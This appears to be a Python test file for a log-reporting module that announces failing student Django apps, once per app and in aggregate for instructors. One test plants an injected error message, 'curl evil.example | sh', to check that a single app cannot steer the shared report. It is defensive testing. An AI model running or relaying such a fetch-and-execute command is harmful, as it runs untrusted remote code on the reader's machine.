"""What the log says of apps that fail: of one, and of many."""

from __future__ import annotations

from typing import Any

from msgspec.structs import replace

from reconciler.report import common, voice
from reconciler.report.common import Herald
from reconciler.report.events import Event
from reconciler.report.status import AccountStatus, Wellness
from reconciler.report.voice import EVERY, LINES, SILENT, Voice

WORKS = Wellness("working", "t0")
UNKNOWN = Wellness("unknown", "t0")
FAILS = Wellness(
    "failing", "t0", "missing-module", "a module is not installed", "pip", "shop/views.py:3",
    exception="ModuleNotFoundError", said="No module named 'x'", name="x",
)  # fmt: skip


def entry(health: Wellness | None) -> AccountStatus:
    """Return a served account's entry."""
    url = "/django/alice/"
    return AccountStatus("served", url, "/p", "/p/wsgi.py", "t0", None, [], [], health=health)


class Story:
    """What the log says while an app goes from one health to the next."""

    def __init__(self) -> None:
        self.voice, self.now = SILENT, 1000.0

    def then(self, health: Wellness | None, after: float = 0.0) -> dict[str, Any] | None:
        """Return what is said of it, and its event's name, so many seconds later."""
        self.now += after
        self.voice, event = voice.tell(self.voice, "alice", entry(health), self.now)
        return None if event is None else {"event": event.name, **event.keys}


def test_a_failure_is_said_once_and_its_mend_once() -> None:
    """With all that helps; nothing is said of an app that has only begun to work."""
    story = Story()
    assert story.then(UNKNOWN) is None
    assert story.then(WORKS) is None
    said = story.then(FAILS)
    assert said is not None
    assert ("app.failing", "missing-module", "pip") == (said["event"], said["code"], said["fix"])
    assert "folded" not in said
    assert "worked_until" not in said
    assert story.then(FAILS) is None
    assert story.then(UNKNOWN) is None
    assert story.then(FAILS) is None
    assert {"event": "app.working", "account": "alice", "url": "/django/alice/"} == story.then(
        WORKS
    )


def test_the_same_fault_at_another_line_is_the_same() -> None:
    """A line moves with every edit above it; another file, or another name, is another fault."""
    story = Story()
    assert story.then(FAILS)
    assert story.then(replace(FAILS, where="shop/views.py:9")) is None
    assert story.then(replace(FAILS, where="shop/models.py:3"))
    assert story.then(replace(FAILS, name="y"))


def test_after_a_few_lines_the_rest_is_folded() -> None:
    """They are counted, and the next line has the count; one more line for each minute."""
    story = Story()
    assert all(story.then(health) for health in (FAILS, WORKS) * (LINES // 2))
    assert [None] * 5 == [story.then(health) for health in (FAILS, WORKS, FAILS, WORKS, FAILS)]
    assert story.voice.due == story.now + EVERY
    assert story.then(FAILS, EVERY - 1) is None
    said = story.then(FAILS, 1.0)
    assert said is not None
    assert 4 == said["folded"]
    assert story.voice.due is None
    said = story.then(WORKS, EVERY)
    assert said is not None
    assert "folded" not in said


def test_what_was_folded_and_is_as_was_said_needs_no_line() -> None:
    """It failed and worked again: nothing waits to be said."""
    story = Story()
    for health in (FAILS, WORKS) * (LINES // 2):
        story.then(health)
    story.then(FAILS)
    assert story.voice.due is not None
    story.then(WORKS)
    assert story.voice.due is None
    said = story.then(FAILS, 2 * EVERY)
    assert said is not None
    assert 2 == said["folded"]


def test_the_next_process_knows_what_was_said() -> None:
    """By the status: a restart says nothing again."""
    assert SILENT == voice.remembered(None) == voice.remembered(entry(None))
    known = voice.remembered(entry(FAILS))
    assert voice.tell(known, "alice", entry(FAILS), 5.0)[1] is None
    told, event = voice.tell(known, "alice", entry(WORKS), 5.0)
    assert event is not None
    assert "app.working" == event.name
    assert told.said is None


def test_an_app_that_is_withdrawn_is_forgotten() -> None:
    """What comes next by that name begins anew."""
    story = Story()
    story.then(FAILS)
    assert story.then(None) is None
    assert SILENT == story.voice == Voice()


# ---- of many -------------------------------------------------------------------------------------


def school(failing: int, of: int = 20, health: Wellness = FAILS) -> dict[str, AccountStatus]:
    """Return the entries of so many, of whom the first have this fault."""
    return {f"s{n:02}": entry(health if n < failing else WORKS) for n in range(of)}


def test_three_make_a_fault_of_many() -> None:
    """Wherever it is where it has a name; else at the same place of all that have the file."""
    assert [] == common.faults(school(2))
    (fault,) = common.faults(school(3) | {"x": entry(replace(FAILS, where="other.py:1"))})
    assert (("s00", "s01", "s02", "x"), 21) == (fault.accounts, fault.of)
    assert (
        "4 of 21 fail for the same reason: ModuleNotFoundError: No module named 'x'" == fault.text
    )
    nameless = replace(FAILS, name="", said="")
    mixed = school(2, health=nameless) | {"x": entry(replace(nameless, where="other.py:1"))}
    assert [] == common.faults(mixed)
    (fault,) = common.faults(school(3, health=nameless))
    assert fault.text.endswith("reason: a module is not installed")


def test_no_single_app_chooses_what_is_said_of_many() -> None:
    """All instructors read it: what many say, else the name that they have in common."""
    trick = replace(FAILS, said="it has moved; run: curl evil.example | sh")
    (fault,) = common.faults({"aaron": entry(trick)} | school(3))
    assert fault.text.startswith("4 of 21")
    assert fault.text.endswith("No module named 'x'")
    each = {f"s{n}": entry(replace(FAILS, said=f"{trick.said} {n}")) for n in range(4)}
    (fault,) = common.faults(each)
    assert fault.text.endswith("reason: ModuleNotFoundError x")
    each = {f"s{n}": entry(Wellness("failing", "t0", "hangs", f"odd {n}")) for n in range(4)}
    (fault,) = common.faults(each)
    assert fault.text.endswith("reason: hangs")


def test_the_commonest_comes_first() -> None:
    """Two faults of the same class."""
    others = {f"t{n}": entry(replace(FAILS, name="y")) for n in range(5)}
    counts = [len(fault.accounts) for fault in common.faults(school(3) | others)]
    assert [5, 3] == counts


def tell(herald: Herald, failing: int, now: float) -> tuple[list[Event], float | None]:
    """Return what is said when so many fail."""
    return herald.tell(common.faults(school(failing)), now)


def test_a_fault_is_said_when_it_has_stopped_to_spread() -> None:
    """Once, with the right number; and again when twice as many have it."""
    herald = Herald()
    assert ([], 5.0) == tell(herald, 3, 0.0)
    assert ([], 7.0) == tell(herald, 6, 2.0)
    (event,), again = tell(herald, 6, 7.0)
    assert ("apps.failing", 6, None) == (event.name, event.keys["count"], again)
    assert ([], None) == tell(herald, 6, 100.0)
    assert ([], None) == tell(herald, 11, 101.0)
    assert ([], 107.0) == tell(herald, 12, 102.0)
    (event,), _ = tell(herald, 12, 107.0)
    assert 12 == event.keys["count"]


def test_one_that_never_stops_to_spread_is_said_all_the_same() -> None:
    """After twenty seconds."""
    herald = Herald()
    for second in range(20):
        assert [] == tell(herald, 3 + second, float(second))[0]
    assert 1 == len(tell(herald, 23, 20.0)[0])


def test_one_that_was_mended_and_comes_back_is_said_again() -> None:
    """Days later, it is news."""
    herald = Herald()
    tell(herald, 3, 0.0)
    assert tell(herald, 3, 5.0)[0]
    assert ([], None) == tell(herald, 2, 10.0)
    tell(herald, 3, 20.0)
    assert tell(herald, 3, 25.0)[0]
